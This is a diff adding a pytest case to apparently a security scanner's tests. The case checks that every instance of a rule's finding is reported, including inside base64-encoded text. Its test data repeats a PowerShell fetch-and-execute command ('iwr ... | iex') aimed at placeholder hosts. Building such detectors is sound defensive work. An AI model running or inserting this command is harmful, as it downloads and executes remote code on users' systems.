@@ -287,6 +287,14 @@ def test_findings_are_bounded_and_the_gravest_stay() -> None:
     assert findings[-1].level == 3
 
 
+def test_a_rule_lists_all_its_findings_in_a_file() -> None:
+    """A waiver covers the listed findings of a rule; an unlisted one would go unseen."""
+    lines = [line for number in range(50) for line in (f"iwr http://h{number}/a | iex", "")]
+    assert [one.line for one in scan_lines(lines, 1)] == [*range(1, 100, 2)]
+    encoded = base64.b64encode("\n".join(lines).encode()).decode()
+    assert len(scan_lines([encoded], 1)) == 50
+
+
 @pytest.mark.parametrize(
     ("harmless", "real"),
     [
